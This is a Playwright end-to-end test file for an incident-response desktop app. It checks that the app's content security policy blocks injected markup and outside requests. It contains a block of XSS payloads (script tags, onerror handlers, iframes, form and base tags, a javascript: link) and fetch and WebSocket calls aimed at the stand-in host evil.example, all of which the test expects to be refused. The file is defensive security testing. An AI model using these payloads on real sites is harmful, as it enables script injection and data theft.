import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { HOSTILE } from '../../shared/text/testing/hostile.ts';
import { expect, test } from '../fixtures/desktop.ts';
import { startShellProcess } from '../fixtures/shell-process.ts';
import { TOKENS } from '../fixtures/slack-server.ts';
import { declare, syncStatus, timeline } from '../gestures/incident.ts';

/** What somebody would try who got text into the page as markup. */
const INJECTED = `
  <script>window.ran = 'script'</script>
  <img src="https://evil.example/x.png" onerror="window.ran = 'handler'">
  <iframe src="https://evil.example/"></iframe>
  <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
  <object data="https://evil.example/x"></object>
  <link rel="stylesheet" href="https://evil.example/x.css">
  <style>body { background: url(https://evil.example/y.png) }</style>
  <form action="https://evil.example/"><button id="send">Send</button></form>
  <base href="https://evil.example/">
  <a href="javascript:window.ran = 'link'" id="go">Go</a>`;

test('what failed is said in words, and markup that got into the page would run nothing and reach nobody', async ({
  browser,
  shell,
}) => {
  test.skip(shell === 'electron', 'the policy is the same; its page cannot be opened without ours');
  const profile = mkdtempSync(join(tmpdir(), 'quarterdeck-e2e-'));
  const desk = await startShellProcess({ profile, slackApiUrl: null, token: null });
  const page = await browser.newPage();
  await page.goto(desk.address);
  await page.getByRole('button', { name: 'Declare incident' }).waitFor();
  // Something of ours that nobody waits for: in words on the screen, and with its place in the log.
  await page.evaluate(() => {
    setTimeout(() => {
      throw new TypeError('about Checkout errors');
    });
  });
  await expect(page.getByRole('alert')).toContainText('Something in Quarterdeck failed just now.');
  const log = () => readFileSync(join(profile, 'logs', 'quarterdeck.log'), 'utf8');
  await expect.poll(log).toContain('"event":"page.failed"');
  expect(log()).toContain('TypeError');
  expect(log()).not.toContain('Checkout');
  const { origin } = new URL(page.url());
  const foreign: string[] = [];
  await page.route('**/*', (route) => {
    foreign.push(route.request().url());
    return route.abort();
  });
  const found = await page.evaluate(async (markup) => {
    const breaches = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      breaches.add(effectiveDirective),
    );
    const attempt = (run: () => void) => {
      try {
        run();
        return 'done';
      } catch (cause) {
        return String(cause);
      }
    };
    const place = document.createElement('div');
    document.body.append(place);
    // Text becomes no markup at all: the browser itself refuses it.
    const asHtml = attempt(() => {
      place.innerHTML = markup;
    });
    // A tool that looks into the page may make code of text in its own turn; the page may not.
    await new Promise((resolve) => setTimeout(resolve, 0));
    const asCode = attempt(() => Function('window.ran = "code"')());
    // Node by node it can be made, as a program that went bad would.
    for (const [name, attributes] of [
      ['script', { textContent: 'window.ran = "script"' }],
      ['script', { src: 'https://evil.example/x.js' }],
      ['img', { src: 'https://evil.example/x.png' }],
      ['iframe', { src: 'https://evil.example/' }],
      ['object', { data: 'https://evil.example/x' }],
      ['link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }],
      ['base', { href: 'https://evil.example/' }],
    ] as const) {
      attempt(() => place.append(Object.assign(document.createElement(name), attributes)));
    }
    const form = Object.assign(document.createElement('form'), {
      action: 'https://evil.example/',
    });
    place.append(form);
    attempt(() => form.submit());
    const told = await fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'refused',
    );
    attempt(() => new WebSocket('wss://evil.example/'));
    await new Promise((resolve) => setTimeout(resolve, 300));
    return {
      asHtml,
      asCode,
      told,
      breaches: [...breaches].sort(),
      ran: Reflect.get(window, 'ran'),
    };
  }, INJECTED);
  expect(found.asHtml).toContain('TrustedHTML');
  expect(found.asCode).toMatch(/EvalError|Trusted/);
  expect(found).toMatchObject({ told: 'refused', ran: undefined });
  expect(found.breaches).toEqual(
    expect.arrayContaining(['connect-src', 'img-src', 'require-trusted-types-for']),
  );
  expect(foreign.filter((url) => !url.startsWith(origin))).toEqual([]);
  await page.close();
  await desk.stop();
  rmSync(profile, { recursive: true, force: true });
});

test('500 messages that were made to do harm ask nothing of anybody but us', {
  tag: '@long',
}, async ({ startDesktop, slack }) => {
  test.slow();
  const { page } = await startDesktop(TOKENS.ana);
  const { origin, host } = new URL(page.url());
  const asked: string[] = [];
  const isOurs = (url: string) =>
    url.startsWith(`${origin}/`) || url.startsWith(`ws://${host}/`) || url.startsWith('data:');
  page.on('request', (request) => asked.push(request.url()));
  page.on('websocket', (socket) => asked.push(socket.url()));
  page.on('dialog', () => {
    throw new Error('a dialog opened');
  });
  page.context().on('page', () => {
    throw new Error('a window opened');
  });
  await expect(syncStatus(page)).toHaveText('Synced', { timeout: 40_000 });
  await declare(page, 'Hostile');
  await expect(syncStatus(page)).toHaveText('Synced', { timeout: 40_000 });
  const { channels = [] } = await slack.as('ana').conversations.list({ limit: 200 });
  const channel = channels.find(({ name }) => name?.endsWith('-hostile'))?.id ?? '';
  const ben = slack.as('ben');
  await ben.conversations.join({ channel });
  const texts = Object.values(HOSTILE).filter((text) => text.isWellFormed());
  for (let i = 0; i < 500; i++) {
    const text = (texts[i % texts.length] ?? '').slice(0, 2_000);
    await ben.chat.postMessage({ channel, text: `${text} ${i}` });
  }
  await ben.chat.postMessage({ channel, text: 'that was all' });
  await expect(timeline(page)).toContainText('that was all', { timeout: 90_000 });
  await timeline(page).hover();
  for (let i = 0; i < 60; i++) {
    await page.mouse.wheel(0, -1_500);
    await page.waitForTimeout(50);
  }
  expect(asked.filter((url) => !isOurs(url))).toEqual([]);
  await expect(page.locator('script:not([src]), iframe, object, base')).toHaveCount(0);
});
